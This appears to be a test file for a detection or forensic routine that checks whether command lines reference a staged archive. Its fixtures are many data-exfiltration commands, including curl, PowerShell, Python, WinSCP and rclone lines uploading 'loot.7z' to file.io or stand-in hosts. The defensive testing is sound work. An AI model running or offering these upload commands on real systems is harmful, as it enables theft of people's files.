import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { referencesPath } from '../../enrich/evidence/references.ts';

const KEY = 'c:\\users\\bob\\stage\\loot.7z';

describe('referencesPath', () => {
  it.each([
    ['curl -k -F "file=@C:\\Users\\Bob\\stage\\loot.7z" https://file.io', undefined],
    ['curl -F "file=@loot.7z;type=application/zip" https://h/', 'C:\\Users\\Bob\\stage'],
    ['curl -sT stage\\loot.7z https://h/', 'C:\\Users\\Bob\\'],
    ['curl -TC:\\Users\\Bob\\stage\\loot.7z https://h/', undefined],
    ['curl --data-binary @..\\stage\\loot.7z https://h/', 'C:\\Users\\Bob\\tmp'],
    ['curl --upload-file=C:/Users/Bob/stage/loot.7z https://h/', undefined],
    ['powershell iwr https://h -Method Post -InFile C:\\Users\\Bob\\stage\\loot.7z', undefined],
    ['powershell irm https://h -Method Put -InFile:$env:USERPROFILE\\stage\\loot.7z', undefined],
    ["powershell -c (New-Object Net.WebClient).UploadFile('https://h/u','C:\\Users\\bob\\stage\\loot.7z')", undefined],
    ['cmd /c "cd x & curl -T \\\\?\\C:\\Users\\bob\\stage\\loot.7z https://h"', undefined],
    ['WinSCP.com /command "open sftp://u@h/" "put C:\\Users\\bob\\stage\\loot.7z" exit', undefined],
    ["python -c \"import requests;requests.post('https://h',data=open('C:/Users/bob/stage/loot.7z'))\"", undefined],
    ['tool.exe file:///C:/Users/bob/stage/loot.7z', undefined],
    ['curl -T C:\\Users\\bob\\stage\\loot.7z.003 https://h', undefined],
    ['curl -T loot.7z https://h', undefined],
    ['curl -T \\Device\\HarddiskVolume2\\users\\bob\\stage\\loot.7z https://h', undefined],
  ])('%s names the archive', (line, cwd) => {
    expect(referencesPath(line, cwd, KEY)).toBe('exact');
  });

  it.each([
    ['rclone copy C:\\Users\\Bob\\stage remote:x', undefined],
    ['rclone sync C:\\Users remote:x', undefined],
    ['svc.exe copy C:\\Users\\Bob remote:x', undefined],
    ['curl -T C:\\Users\\Bob\\stage\\*.7z https://h/', undefined],
    ['curl -T *.7z https://h/', 'C:\\Users\\Bob\\stage'],
    ['robocopy C:\\Users\\Bob\\stage \\\\10.0.0.9\\x', undefined],
  ])('%s names its folder', (line, cwd) => {
    expect(referencesPath(line, cwd, KEY)).toBe('directory');
  });

  it.each([
    ['curl -T other.7z https://h/', 'C:\\Users\\Bob\\stage'],
    ['curl -T loot.7z https://h/', 'C:\\elsewhere'],
    ['curl https://h/users/bob/stage/loot.7z', undefined],
    ['curl -T D:\\Users\\bob\\stage\\loot.7z https://h/', undefined],
    ['curl -T C:\\Users\\Bob\\stage\\*.zip https://h/', undefined],
    ['notepad C:\\Users\\Bob', undefined],
    ['7z a C:\\Users\\Bob\\stage\\loot.7z docs', undefined],
    ['cmd /c 7z a C:\\Users\\Bob\\stage\\loot.7z docs', undefined],
    ['curl -T C:\\Users\\bob\\stage\\loot.7z.exe https://h', undefined],
    ['', undefined],
  ])('%s does not', (line, cwd) => {
    expect(referencesPath(line, cwd, KEY)).toBeUndefined();
  });

  it('compares a bare archive name by its end when the packer’s folder was not known', () => {
    expect(referencesPath('curl -T C:\\d\\loot.rar https://h', undefined, 'loot.rar')).toBe('exact');
    expect(referencesPath('curl -T C:\\d\\aloot.rar https://h', undefined, 'loot.rar')).toBeUndefined();
  });
  it('never throws', () => {
    fc.assert(
      fc.property(fc.string(), fc.option(fc.string(), { nil: undefined }), fc.string(), (line, cwd, key) => {
        expect(['exact', 'directory', undefined]).toContain(referencesPath(`curl ${line}`, cwd, key));
      }),
      { numRuns: 2_000 },
    );
  });
});
